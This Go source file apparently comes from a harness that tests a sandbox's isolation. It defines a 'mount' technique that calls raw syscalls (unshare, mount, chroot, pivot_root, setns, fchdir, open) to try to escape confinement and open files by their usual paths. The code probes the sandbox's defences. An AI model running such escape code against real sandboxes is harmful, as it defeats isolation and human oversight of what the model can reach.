package main

import (
	"example.com/hostile/attack"
)

func init() { techniques["mount"] = tryMount }

// tryMount creates and enters namespaces, mounts, and changes the root folder. Then it opens files by their usual paths.
func tryMount() {
	for _, way := range attack.Ways {
		way(272, 0x10000000|0x20000, 0, 0, 0, 0, 0)
		way(165, attack.String("/tmp"), attack.String("/mnt"), 0, 0x1000, 0, 0)
		way(161, attack.String("/tmp"), 0, 0, 0, 0, 0)
		way(155, attack.String("."), attack.String("."), 0, 0, 0, 0)
		for fd := range uintptr(16) {
			way(308, fd, 0, 0, 0, 0, 0)
			way(81, fd, 0, 0, 0, 0, 0)
		}
		attack.Write(way, func(path, flags uintptr) int { return way(2, path, flags, 0o666, 0, 0, 0) })
	}
}
